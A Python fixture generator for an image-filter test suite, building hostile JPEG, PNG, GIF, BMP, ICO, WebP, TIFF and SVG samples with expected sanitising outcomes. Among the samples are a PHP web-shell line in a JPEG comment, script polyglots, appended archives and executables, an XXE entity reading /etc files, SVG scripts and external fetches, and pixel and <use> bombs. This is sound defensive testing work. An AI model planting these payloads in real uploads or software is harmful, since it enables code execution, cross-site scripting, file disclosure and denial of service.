"""Samples of the image filter: pictures with metadata, tails, tricks and bombs, and ordinary ones of every sort that offices send.
Chunks, markers and directories are made by hand; Pillow codes pixels (JPEG, GIF, WebP, TIFF), the same bytes on every run."""
import io
import struct
import zlib

from PIL import Image, ImageDraw

from _image_forms import (bmp, canary, exif, gif_file, ico, jpeg_segment, jpeg_with, make_icc, png, png_chunk, png_file, png_rows, riff, tiff_file,
                          webp_parts)

ZIP = b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + b"\x00" * 16 + b"%s" + b"PK\x05\x06" + b"\x00" * 18
HTML = b"<html><script>alert('%s')</script></html>"


class Cases:
    def __init__(self, root):
        self.root = root / "image"
        self.names = set()

    def put(self, name, ext, data, what, then, row="2.7"):
        assert name not in self.names, name
        self.names.add(name)
        folder = self.root / name
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"in.{ext}").write_bytes(data)
        (folder / "why.md").write_text(f"{what}\n{then}\nfile-rules {row}, {ext.upper()}\n")


def photo(width=64, height=48, mode="RGB", seed=0):
    """A smooth picture without symmetry: a gradient, a disc, an L."""
    picture = Image.new("RGB", (width, height))
    pixels = picture.load()
    for y in range(height):
        for x in range(width):
            pixels[x, y] = ((x * 255 // max(1, width - 1)), (y * 255 // max(1, height - 1)), (x * 3 + y * 2 + seed * 40) % 256 // 2 + 60)
    draw = ImageDraw.Draw(picture)
    draw.ellipse((width // 8, height // 8, width // 2, height // 2), fill=(220, 60, 40))
    draw.rectangle((width * 5 // 8, height // 4, width * 6 // 8, height * 7 // 8), fill=(20, 60, 160))
    draw.rectangle((width * 5 // 8, height * 6 // 8, width * 15 // 16, height * 7 // 8), fill=(20, 60, 160))
    return picture.convert(mode)


def page(width=200, height=120, seed=0):
    """A page of a fax: black on white."""
    picture = Image.new("1", (width, height), 1)
    draw = ImageDraw.Draw(picture)
    for line in range(8):
        for column in range((line * 7 + seed) % 5, 20, 2):
            draw.rectangle((10 + column * 9, 10 + line * 13, 15 + column * 9, 16 + line * 13), fill=0)
    draw.line((0, height - 1, width - 1, 0), fill=0)
    return picture


def coded(picture, kind, **options):
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def jpeg(picture=None, **options):
    return coded(picture or photo(), "JPEG", **{"quality": 85, **options})


def hostile_jpeg(cases):
    plain = jpeg()
    gone = "The picture goes on with the same pixels; the segment does not."
    rows = [
        ("jpeg-exif", exif(1, canary("exif")), "A photograph with Exif: maker, position, a description."),
        ("jpeg-xmp", jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + canary("xmp") + b"</x:xmpmeta>"), "XMP in APP1."),
        ("jpeg-xmp-extended", jpeg_segment(0xE1, b"http://ns.adobe.com/xmp/extension/\0" + b"0" * 32 + struct.pack(">II", 40, 0) + canary("xmp2")), "Extended XMP in APP1."),
        ("jpeg-iptc", jpeg_segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x30\x1c\x02\x78\0\x20" + canary("iptc")), "IPTC in APP13."),
        ("jpeg-comment", jpeg_segment(0xFE, b"<script>" + canary("com") + b"</script>"), "A comment with a script."),
        ("jpeg-php-comment", jpeg_segment(0xFE, b"<?php system($_GET['c']); /*" + canary("php") + b"*/ ?>"), "A comment that a web server would run."),
        ("jpeg-flashpix", jpeg_segment(0xE2, b"FPXR\0\0\x01\0\x01" + canary("fpxr")), "FlashPix streams in APP2 (an OLE structure)."),
        ("jpeg-mpf", jpeg_segment(0xE2, b"MPF\0II*\0\x08\0\0\0\0\0" + canary("mpf")), "Multi-picture format in APP2."),
        ("jpeg-private-segment", jpeg_segment(0xEA, b"EVIL\0" + canary("app10")), "A segment of an unknown program in APP10."),
        ("jpeg-jfxx-thumbnail", jpeg_segment(0xE0, b"JFXX\0\x10" + jpeg(photo(16, 12)) + canary("jfxx")), "A thumbnail in a JFXX extension: another picture than the one shown."),
        ("jpeg-icc-with-text", jpeg_segment(0xE2, b"ICC_PROFILE\0\x01\x01" + make_icc("srgb", canary("icc"))), "A colour profile with text."),
        ("jpeg-icc-broken", jpeg_segment(0xE2, b"ICC_PROFILE\0\x01\x02" + canary("icc-broken")), "A colour profile whose second piece is missing."),
        ("jpeg-adobe-tail", jpeg_segment(0xEE, b"Adobe\0\x64\0\0\0\0\x01" + canary("app14")), "An Adobe segment with something behind its fields."),
        ("jpeg-unused-dqt", jpeg_segment(0xDB, b"\x03" + (canary("dqt") * 4)[:64].replace(b"\0", b"\1")), "A quantisation table that no component uses holds text."),
    ]
    for name, segment, what in rows:
        cases.put(name, "jpg", jpeg_with(plain, segment), what, gone)
    thumb = jpeg_with(jpeg(photo(16, 12, seed=3)), jpeg_segment(0xFE, canary("thumb")))
    cases.put("jpeg-exif-thumbnail", "jpg", jpeg_with(plain, exif(1, canary("exif-thumb"), thumb)), "Exif with a thumbnail that has a comment of its own.", gone)
    tails = [("zip", ZIP % canary("zip"), "a zip archive (GIFAR's cousin)"), ("html", HTML % canary("html"), "a web page"),
             ("mp4", struct.pack(">I", 24) + b"ftypmp42\0\0\0\0mp42isom" + canary("mp4"), "the film of a phone (motion photo)"),
             ("exe", b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + canary("exe"), "a program"), ("jpeg", jpeg_with(jpeg(photo(16, 12)), jpeg_segment(0xFE, canary("second"))), "a second picture"),
             ("padding", b"\0" * 64 + canary("pad"), "fill and text")]
    for name, tail, what in tails:
        cases.put(f"jpeg-tail-{name}", "jpg", plain + tail, f"A JPEG with {what} behind its end.", "The picture goes on; what stands behind its end does not and is reported.")
    polyglot = b"\xff\xd8\xff\xe0\x2f\x2a" + b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0" + b"\0" * (0x2f2a - 16 - 50) + b"*/=alert('" + canary("js") + b"');/*"
    polyglot = polyglot.ljust(4 + 0x2f2a, b" ") + plain[20:]
    cases.put("jpeg-script-polyglot", "jpg", polyglot, "A JPEG that is a script as well: the length of APP0 reads /*.", "The picture goes on; the script between its markers does not.", "2.0")
    scans = jpeg(progressive=True)
    at = scans.index(b"\xff\xda", scans.index(b"\xff\xda") + 2)
    at = scans.rindex(b"\xff\xc4", 0, at) if b"\xff\xc4" in scans[scans.index(b"\xff\xda"):at] else at
    cases.put("jpeg-comment-between-scans", "jpg", scans[:at] + jpeg_segment(0xFE, canary("scan")) + scans[at:], "A progressive JPEG with a comment between two scans.", gone)
    cases.put("jpeg-cut", "jpg", plain[:len(plain) * 2 // 3], "A JPEG that ends inside its picture.", "What is there goes on, well formed, and is reported as damaged.")
    cases.put("jpeg-cut-in-header", "jpg", plain[:150], "A JPEG that ends inside its tables.", "Withheld: nothing can be decoded.")
    frame = plain.index(b"\xff\xc0")
    huge = plain[:frame + 5] + struct.pack(">HH", 65500, 65500) + plain[frame + 9:]
    cases.put("jpeg-bomb", "jpg", huge, "A small file that says 65,500 by 65,500 pixels.", "Withheld before memory is asked for.", "2.0 (bomb)")
    wide = plain[:frame + 5] + struct.pack(">HH", 8, 30001) + plain[frame + 9:]
    cases.put("jpeg-too-wide", "jpg", wide, "A side above 30,000 pixels.", "Withheld before memory is asked for.")
    cases.put("jpeg-lossless-kind", "jpg", plain[:frame] + b"\xff\xc3" + plain[frame + 2:], "Lossless JPEG (SOF3), which no narrow decoder reads.", "Withheld as a kind that cannot be read.")


def hostile_png(cases):
    header, rows = (16, 12, 8, 2), png_rows(16, 12, 3)
    gone = "The picture goes on with the same pixels; the chunk does not."

    def with_chunks(*chunks, behind=()):
        return png_file(header, rows, chunks, behind)

    raw = struct.pack(">IIB", 1, 16, 12)
    cases.put("png-text", "png", with_chunks(png_chunk(b"tEXt", b"Comment\0" + canary("text"))), "Text in tEXt.", gone)
    cases.put("png-compressed-text", "png", with_chunks(png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(canary("ztxt")))), "Compressed text in zTXt.", gone)
    cases.put("png-xmp", "png", with_chunks(png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x>" + canary("itxt") + b"</x>")), "XMP in iTXt.", gone)
    cases.put("png-exif", "png", with_chunks(png_chunk(b"eXIf", exif(1, canary("exif"))[10:])), "Exif in eXIf.", gone)
    cases.put("png-icc", "png", with_chunks(png_chunk(b"iCCP", b"p\0\0" + zlib.compress(make_icc("srgb", canary("icc"))))), "A colour profile with text.", gone)
    cases.put("png-private-chunk", "png", with_chunks(png_chunk(b"evIl", canary("private"))), "A private chunk.", gone)
    cases.put("png-private-behind", "png", with_chunks(behind=(png_chunk(b"tEXt", b"a\0" + canary("late")), png_chunk(b"prVt", canary("late2")))), "Chunks between the pixels and the end.", gone)
    cases.put("png-time-and-size", "png", with_chunks(png_chunk(b"tIME", b"\x07\xea\1\1\0\0\0"), png_chunk(b"pHYs", b"\0\0\x0b\x13\0\0\x0b\x13\1")), "A date and a printing size.", gone)
    plain = with_chunks()
    cases.put("png-tail-zip", "png", plain + ZIP % canary("zip"), "A zip archive behind IEND.", "The picture goes on; the archive does not and is reported.")
    cases.put("png-tail-html", "png", plain + HTML % canary("html"), "A web page behind IEND.", "The picture goes on; the page does not and is reported.")
    cases.put("png-end-with-data", "png", plain[:-12] + png_chunk(b"IEND", canary("iend")), "IEND that holds data.", gone)
    cases.put("png-script-polyglot", "png", with_chunks(png_chunk(b"tEXt", b"<script>\0" + canary("script") + b"</script>")), "A page in a text chunk, for browsers that sniff.", gone, "2.0")
    fc = lambda n: png_chunk(b"fcTL", struct.pack(">IIIIIHHBB", n, 16, 12, 0, 0, 1, 10, 0, 0))
    frame = zlib.compress(png_rows(16, 12, 3, seed=9))
    apng = png_file(header, rows, (png_chunk(b"acTL", struct.pack(">II", 2, 0)), fc(0)), (fc(1), png_chunk(b"fdAT", struct.pack(">I", 2) + frame + canary("fdat"))))
    cases.put("png-animation", "png", apng, "An animated PNG with a second frame.", "The first frame goes on; that there were more is told.")
    colours = b"\xff\0\0\0\xff\0" + canary("plte")
    colours = colours.ljust(-(-len(colours) // 3) * 3, b"\0")
    hidden = png_file((4, 4, 8, 3), b"".join(b"\0" + bytes((x + y) % 2 for x in range(4)) for y in range(4)), (png_chunk(b"PLTE", colours),))
    cases.put("png-text-in-palette", "png", hidden, "Text in palette entries that no pixel uses.", "The used entries go on, the others do not.")
    packed = zlib.compress(rows)
    cases.put("png-data-behind-pixels", "png", png_file(header, rows, idat=packed + canary("idat")), "Data in IDAT behind the end of the compressed pixels.", gone)
    cases.put("png-rows-too-many", "png", png_file(header, rows + canary("rows") * 3), "More rows than the header says, compressed with the others.", gone)
    cases.put("png-bomb", "png", png_file((30000, 30000, 1, 0), b"", idat=zlib.compress(b"\0" * 100000)), "900 megapixels in a small file.", "Withheld before memory is asked for.", "2.0 (bomb)")
    cases.put("png-bomb-within-bounds", "png", png_file((10000, 9999, 1, 0), b"", idat=zlib.compress(b"\0" * 4096)), "100 megapixels announced, a few rows there.", "Withheld as damaged; bounded memory.", "2.0 (bomb)")
    cases.put("png-lying-size", "png", png_file((16, 400, 8, 2), rows), "A header that says more rows than there are.", "Withheld as damaged.")
    cases.put("png-cut", "png", plain[:len(plain) - 40], "A PNG that ends inside its pixels.", "Withheld as damaged.")
    cases.put("png-bad-crc", "png", plain[:30] + bytes([plain[30] ^ 1]) + plain[31:], "A header whose check sum is wrong.", "Withheld as damaged.")
    assert raw


def hostile_gif(cases):
    frames = [photo(24, 16, seed=n).quantize(8, kmeans=0) for n in range(3)]
    plain = coded(frames[0], "GIF")
    gone = "The picture goes on with the same pixels; the block does not."

    def before_picture(block):
        at = plain.index(b",\0\0\0\0", 13)
        return plain[:at] + block + plain[at:]

    def blocks(data):
        return b"".join(bytes([len(data[i:i + 255])]) + data[i:i + 255] for i in range(0, len(data), 255)) + b"\0"

    cases.put("gif-comment", "gif", before_picture(b"!\xfe" + blocks(b"<script>" + canary("comment"))), "A comment block with a script.", gone)
    cases.put("gif-text-overlay", "gif", before_picture(b"!\x01\x0c" + b"\0" * 12 + blocks(canary("plain"))), "A plain-text extension.", gone)
    cases.put("gif-program-block", "gif", before_picture(b"!\xff\x0bEVILPROG1.0" + blocks(canary("app"))), "An application block of an unknown program.", gone)
    cases.put("gif-xmp", "gif", before_picture(b"!\xff\x0bXMP DataXMP" + blocks(b"<x>" + canary("xmp") + b"</x>")), "XMP in an application block.", gone)
    cases.put("gif-loop-with-more", "gif", before_picture(b"!\xff\x0bNETSCAPE2.0\x03\x01\0\0" + blocks(canary("loop"))), "A loop block that goes on with other data.", gone)
    cases.put("gif-unknown-extension", "gif", before_picture(b"!\x77" + blocks(canary("ext"))), "An extension that no standard knows.", gone)
    cases.put("gif-tail-zip", "gif", plain + ZIP % canary("gifar"), "GIFAR: a Java archive behind the trailer.", "The picture goes on; the archive does not and is reported.", "2.0")
    cases.put("gif-tail-html", "gif", plain + HTML % canary("html"), "A web page behind the trailer.", "The picture goes on; the page does not and is reported.")
    colours = (b"\xff\0\0\0\0\xff" + canary("palette")).ljust(3 * 32, b"\0")
    cases.put("gif-text-in-palette", "gif", gif_file(4, 4, colours, bytes((x + y) % 2 for y in range(4) for x in range(4))), "Text in palette entries that no pixel uses.", "Those entries become black.")
    bomb = bytearray(plain)
    bomb[6:10] = struct.pack("<HH", 65535, 65535)
    cases.put("gif-bomb", "gif", bytes(bomb), "A canvas of 65,535 by 65,535.", "Withheld before memory is asked for.", "2.0 (bomb)")
    cases.put("gif-cut", "gif", plain[:len(plain) - 30], "A GIF that ends inside its pixels.", "Withheld as damaged.")
    script = b"GIF89a/*" + plain[8:-1] + b"!\xfe" + blocks(b"*/=1;alert('" + canary("js") + b"')//") + b";"
    cases.put("gif-script-polyglot", "gif", script, "A GIF that is a script as well: the canvas size reads /*.", "The picture goes on; the script does not.", "2.0")


def hostile_others(cases):
    rgb = photo(16, 12)
    cases.put("bmp-gap", "bmp", bmp(rgb, gap=canary("gap")), "Data between header and pixels of a bitmap.", "A PNG with the same pixels; the data do not go on.")
    cases.put("bmp-tail", "bmp", bmp(rgb) + HTML % canary("tail"), "A web page behind the pixels of a bitmap.", "A PNG with the same pixels; the page does not go on.")
    cases.put("bmp-profile", "bmp", bmp(rgb, profile=make_icc("srgb", canary("icc"))), "A bitmap of version 5 with a colour profile.", "A PNG; the profile does not go on.")
    wide = bytearray(bmp(rgb))
    wide[18:26] = struct.pack("<ii", 30000, 30000)
    cases.put("bmp-bomb", "bmp", bytes(wide), "900 megapixels announced.", "Withheld before memory is asked for.", "2.0 (bomb)")
    jpeg_inside = bytearray(bmp(rgb)[:54]) + jpeg_with(jpeg(rgb), jpeg_segment(0xFE, canary("jpeg")))
    jpeg_inside[28:34] = struct.pack("<HI", 0, 4)
    cases.put("bmp-with-jpeg", "bmp", bytes(jpeg_inside), "A bitmap that carries a JPEG.", "Withheld as a coding that is not read.")
    rle = bytearray(bmp(photo(16, 12, "L").quantize(16), rle=True))
    cases.put("bmp-rle-jump", "bmp", bytes(rle[:-2]) + b"\0\2\xff\xff\0\1" + canary("rle"), "RLE that jumps out of the picture, and a tail.", "A PNG of what was drawn; bounded.")
    icon = coded(photo(32, 32, "RGBA"), "PNG")
    at = icon.index(b"IDAT") - 4
    tricked = icon[:at] + png_chunk(b"tEXt", b"x\0" + canary("ico-png")) + icon[at:]
    cases.put("ico-png-with-text", "ico", ico([(32, 32, 32, tricked)]), "An icon whose PNG holds text.", "A PNG with the same pixels; the text does not go on.")
    small = bmp(photo(8, 8))[14:] + canary("small")
    cases.put("ico-further-sizes", "ico", ico([(32, 32, 32, icon), (8, 8, 24, small)]), "An icon of two sizes; the smaller hides data.", "The larger size goes on as a PNG.")
    cases.put("ico-tail", "ico", ico([(32, 32, 32, icon)]) + ZIP % canary("ico-zip"), "An archive behind an icon.", "The picture goes on; the archive does not.")
    cases.put("ico-outside", "ico", ico([(32, 32, 32, icon)], shift=100000), "A directory that points out of the file.", "Withheld as damaged.")
    cases.put("ico-gap", "ico", ico([(32, 32, 32, icon)], gap=canary("ico-gap")), "Data between directory and picture.", "The picture goes on; the data do not.")
    lossy = coded(rgb, "WEBP", quality=80)
    parts = webp_parts(lossy)
    for name, chunk, what in (("exif", riff(b"EXIF", exif(1, canary("webp-exif"))[10:]), "Exif"), ("xmp", riff(b"XMP ", b"<x>" + canary("webp-xmp")), "XMP"),
                              ("unknown-chunk", riff(b"EVIL", canary("webp-chunk")), "a chunk that no standard knows"),
                              ("icc", riff(b"ICCP", make_icc("srgb", canary("webp-icc"))), "a profile with text")):
        head = riff(b"VP8X", bytes([0x2C, 0, 0, 0]) + (15).to_bytes(3, "little") + (11).to_bytes(3, "little"))
        order = head + chunk + parts if name == "icc" else head + parts + chunk
        cases.put(f"webp-{name}", "webp", b"RIFF" + struct.pack("<I", 4 + len(order)) + b"WEBP" + order, f"WebP with {what}.", "The picture goes on as a JPEG; the chunk does not.")
    cases.put("webp-tail", "webp", lossy + HTML % canary("webp-tail"), "A web page behind a WebP.", "The picture goes on; the page does not.")
    frames = [photo(16, 12, seed=n) for n in range(3)]
    moving = coded(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=100, lossless=True)
    cases.put("webp-animation", "webp", moving, "An animated WebP.", "The first frame goes on; that there were more is told.")
    cases.put("webp-cut", "webp", lossy[:len(lossy) // 2], "A WebP that ends early.", "Withheld as damaged.")
    head = bytearray(lossy)
    where = head.index(b"\x9d\x01\x2a")
    head[where + 3:where + 7] = struct.pack("<HH", 16383, 16383)
    cases.put("webp-bomb", "webp", bytes(head), "268 megapixels announced.", "Withheld before memory is asked for.", "2.0 (bomb)")


def hostile_tiff(cases):
    rows = bytes(range(96)) * 2
    base = {256: 16, 257: 12, 258: 8, 259: 1, 262: 1, 277: 1, 278: 12}
    gone = "The page goes on with the same pixels; the tag does not."
    for name, tags, what in (
            ("text-tags", {270: canary("tiff-description"), 305: canary("tiff-software"), 315: canary("tiff-artist"), 306: b"2026:01:01 00:00:00\0"}, "Names, programs and dates."),
            ("private-tags", {50000: canary("tiff-private"), 34377: canary("tiff-8bim"), 33723: canary("tiff-iptc")}, "Private tags, Photoshop and IPTC data."),
            ("geotiff", {33550: canary("tiff-scale"), 34735: canary("tiff-geo"), 34737: canary("tiff-geo-ascii")}, "A position (GeoTIFF)."),
            ("xmp", {700: b"<x>" + canary("tiff-xmp")}, "XMP."),
            ("icc", {34675: make_icc("grey", canary("tiff-icc"))}, "A colour profile with text."),
            ("page-names", {269: canary("tiff-document"), 285: canary("tiff-page"), 33432: canary("tiff-copyright")}, "Names of document and page.")):
        cases.put(f"tiff-{name}", "tif", tiff_file([({**base, **tags}, rows)]), what, gone)
    cases.put("tiff-tail", "tif", tiff_file([(base, rows)]) + ZIP % canary("tiff-tail"), "An archive behind a TIFF.", "The page goes on; the archive does not.")
    cases.put("tiff-gap", "tif", tiff_file([(base, rows)], gap=canary("tiff-gap")), "Data between the parts of a TIFF.", "The page goes on; the data do not.")
    cases.put("tiff-exif-directory", "tif", tiff_file([({**base, 34665: ("ifd", {37510: canary("tiff-exif")}), 34853: ("ifd", {29: canary("tiff-gps")})}, rows)]), "Exif and position directories.", gone)
    cases.put("tiff-loop", "tif", tiff_file([(base, rows)], loop=True), "A directory that names itself as the next.", "One page goes on or nothing; it ends.", "2.0 (bomb)")
    cases.put("tiff-many-pages", "tif", tiff_file([({**base, 256: 8, 257: 1, 278: 1}, b"\0" * 8)] * 520), "520 pages.", "Withheld: more pages than the bound.", "2.0 (bomb)")
    cases.put("tiff-bomb", "tif", tiff_file([({**base, 256: 60000, 257: 60000, 278: 60000}, rows)]), "3,600 megapixels announced.", "Withheld before memory is asked for.", "2.0 (bomb)")
    cases.put("tiff-outside", "tif", tiff_file([({**base, 273: 99999999}, rows)]), "A strip that lies outside the file.", "Withheld as damaged.")
    cases.put("tiff-float", "tif", tiff_file([({**base, 258: 32, 339: 3, 257: 3, 278: 3}, rows)]), "Floating-point samples.", "Withheld as a form that is not read.")
    cases.put("tiff-unknown-compression", "tif", tiff_file([({**base, 259: 34712}, rows)]), "JPEG 2000 inside a TIFF.", "Withheld as a form that is not read.")
    cases.put("tiff-thumbnail", "tif", tiff_file([(base, rows), ({**base, 254: 1, 256: 4, 257: 3, 278: 3, 270: canary("tiff-thumb")}, b"\1" * 12)]), "A page and a thumbnail of it.", "The page goes on; the thumbnail does not.")


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="40" viewBox="0 0 60 40"%s>%s</svg>'
BOX = '<rect x="5" y="5" width="30" height="20" fill="#3366cc"/>'


def hostile_svg(cases):
    gone = "Withheld, or drawn without it: nothing of it goes on."
    token = lambda name: canary("svg-" + name).decode().strip("\0")
    rows = [
        ("script", "", BOX + f"<script>{token('script')}</script>"),
        ("script-href", "", BOX + f'<script xlink:href="https://e.example/{token("script-href")}"/>'),
        ("onload", f' onload="{token("onload")}"', BOX),
        ("onclick", "", f'<rect width="9" height="9" onclick="{token("onclick")}"/>'),
        ("foreign-object", "", BOX + f'<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">{token("foreign")}</body></foreignObject>'),
        ("use-external", "", BOX + f'<use xlink:href="https://e.example/a.svg#{token("use")}"/>'),
        ("image-href", "", BOX + f'<image xlink:href="file:///etc/{token("image")}" width="9" height="9"/>'),
        ("image-data", "", BOX + f'<image href="data:image/png;base64,{token("data")}" width="9" height="9"/>'),
        ("css-import", "", f'<style>@import url(https://e.example/{token("import")});</style>' + BOX),
        ("css-url", "", f'<rect width="9" height="9" style="fill:url(https://e.example/{token("url")}#a)"/>'),
        ("link", "", f'<a xlink:href="javascript:{token("link")}">{BOX}</a>'),
        ("animate-href", "", f'<a xlink:href="#x"><set attributeName="href" to="javascript:{token("set")}"/>{BOX}</a>'),
        ("handler", "", BOX + f'<handler type="application/ecmascript">{token("handler")}</handler>'),
        ("filter-image", "", f'<filter id="f"><feImage xlink:href="https://e.example/{token("fe")}"/></filter><rect width="9" height="9" filter="url(#f)"/>'),
        ("metadata", "", f"<metadata>{token('metadata')}</metadata><title>{token('title')}</title>" + BOX),
        ("comment", "", f"<!-- {token('comment')} -->" + BOX),
        ("text", "", BOX + f'<text x="5" y="20">{token("text")}</text>'),
        ("animation", "", f'<rect width="9" height="9"><animate attributeName="x" to="{token("animate")}"/></rect>'),
    ]
    for name, attributes, body in rows:
        cases.put(f"svg-{name}", "svg", (SVG % (attributes, body)).encode(), f"A drawing with: {name}.", gone, "2.6 and 2.7")
    entity = f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/{token("entity")}">]>' + SVG % ("", BOX + "<desc>&a;</desc>")
    cases.put("svg-entity", "svg", entity.encode(), "An entity that reads a file.", "Withheld: a document type is not read.", "2.6")
    style = f'<?xml-stylesheet href="https://e.example/{token("pi")}"?>' + SVG % ("", BOX)
    cases.put("svg-stylesheet", "svg", style.encode(), "A style sheet from outside.", gone, "2.6")
    cases.put("svg-deep", "svg", (SVG % ("", "<g>" * 200 + BOX + "</g>" * 200)).encode(), "200 groups in each other.", "Withheld: deeper than the bound.", "2.0 (bomb)")
    cases.put("svg-bomb", "svg", b'<svg xmlns="http://www.w3.org/2000/svg" width="90000" height="90000"><rect width="9" height="9"/></svg>', "8,100 megapixels.", "Drawn smaller or withheld; bounded.", "2.0 (bomb)")
    uses = "".join(f'<g id="u{n}"><use xlink:href="#u{n - 1}"/><use xlink:href="#u{n - 1}"/></g>' for n in range(1, 24))
    cases.put("svg-use-bomb", "svg", (SVG % ("", f'<defs><g id="u0">{BOX}</g>{uses}</defs><use xlink:href="#u23"/>')).encode(), "Eight million copies by <use>.", "Withheld; bounded.", "2.0 (bomb)")


def make(root):
    from _image_benign import benign
    cases = Cases(root)
    for group in (hostile_jpeg, hostile_png, hostile_gif, hostile_others, hostile_tiff, hostile_svg):
        group(cases)
    benign(cases, photo, page, coded, jpeg)
